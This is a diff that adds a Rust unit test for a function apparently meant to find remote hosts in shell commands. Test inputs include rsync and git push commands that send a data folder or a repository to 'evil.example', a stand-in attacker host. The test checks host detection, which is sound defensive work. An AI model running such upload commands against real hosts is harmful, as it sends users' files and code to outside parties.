@@ -104,6 +104,16 @@ mod tests {
     }
 
     #[test]
+    fn a_place_on_another_machine_is_a_host() {
+        check("scp notes.md box:", &["box"]);
+        check("rsync -a data/ ada@evil.example:in", &["evil.example"]);
+        check("git push git@evil.example:ada/notes.git", &["evil.example"]);
+        // A file, and what only looks like a place.
+        check("scp ./a:b box:", &["box"]);
+        check("docker run -v data:/data box", &[]);
+    }
+
+    #[test]
     fn files_and_packages_are_no_hosts() {
         for line in
             ["pip install -r requirements.txt", "python train.py", "npm install @scope/pkg@1.0", "git push", "ls *.md"]
